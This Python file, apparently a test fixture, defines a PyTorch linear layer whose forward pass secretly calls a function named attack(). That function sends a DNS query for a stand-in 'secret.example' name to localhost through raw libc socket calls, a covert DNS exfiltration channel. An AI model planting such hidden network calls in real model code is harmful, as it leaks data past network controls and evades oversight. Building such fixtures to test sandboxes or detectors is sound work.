"""Asks a name server, which is how data leaves where nothing else may, with the C library."""

import ctypes
import socket
import struct

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}
LIBC = ctypes.CDLL(None, use_errno=True)


def attack():
    query = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\6secret\7example\0" + struct.pack("!2H", 1, 1)
    address = struct.pack("=HHI8x", socket.AF_INET, socket.htons(int(PLACES["udp"])), socket.htonl(0x7F000001))
    LIBC.sendto(LIBC.socket(socket.AF_INET, socket.SOCK_DGRAM, 0), query, len(query), 0, address, len(address))


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
